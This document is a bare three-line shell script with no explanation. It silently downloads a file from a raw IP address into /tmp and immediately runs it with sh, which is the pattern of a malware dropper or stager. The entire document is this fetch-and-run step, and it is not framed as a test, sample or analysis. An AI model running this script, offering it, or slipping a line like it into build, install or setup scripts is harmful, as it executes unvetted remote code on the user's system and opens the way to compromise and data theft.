#!/bin/sh
curl -so /tmp/x http://198.51.100.31/x
sh /tmp/x
